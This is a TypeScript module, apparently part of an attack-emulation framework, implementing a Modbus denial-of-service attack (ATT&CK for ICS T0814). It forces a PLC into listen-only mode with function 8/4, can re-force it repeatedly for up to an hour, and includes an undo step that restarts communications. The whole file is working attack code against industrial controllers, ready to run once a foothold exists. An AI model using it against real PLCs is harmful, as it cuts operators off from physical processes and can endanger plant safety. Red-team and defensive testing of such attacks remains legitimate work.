// T0814 Denial of Service: function 8/4 forces the PLC to listen only. It answers nobody until its communications are restarted.
import { z } from 'zod'
import type { Attack } from './attack.ts'
import { answered, KeptLink } from './kept-link.ts'
import { RESTART_COMMUNICATIONS } from './restart-communications.ts'

// Modbus Application Protocol 1.1b3, 6.8: no reply is given.
const FORCE_LISTEN_ONLY = Uint8Array.of(8, 0, 4, 0, 0)
const READ_ONE_BIT = Uint8Array.of(1, 0, 0, 0, 1)

const Parameters = z.strictObject({
  insistSeconds: z.number().min(0).max(3600).default(60).describe('After how many seconds it is forced again; 0 forces it once.')
})

export const listenOnly = {
  name: 'listen-only',
  title: { zh: '强制只听模式', en: 'Forced listen-only mode' },
  technique: 'T0814',
  parameters: Parameters,
  async aim(foothold, { insistSeconds }) {
    const link = await KeptLink.open(foothold)
    return {
      ...{ tags: [], hosts: [link.host], insistSeconds },
      strike: async () => void (await answered(() => link.request(FORCE_LISTEN_ONLY))),
      async undo() {
        // A PLC that listens only does not answer this either, and ends all connections.
        await answered(() => link.request(RESTART_COMMUNICATIONS))
        await link.cut()
        await link.request(READ_ONE_BIT)
        await link.cut()
      }
    }
  }
} satisfies Attack<typeof Parameters>
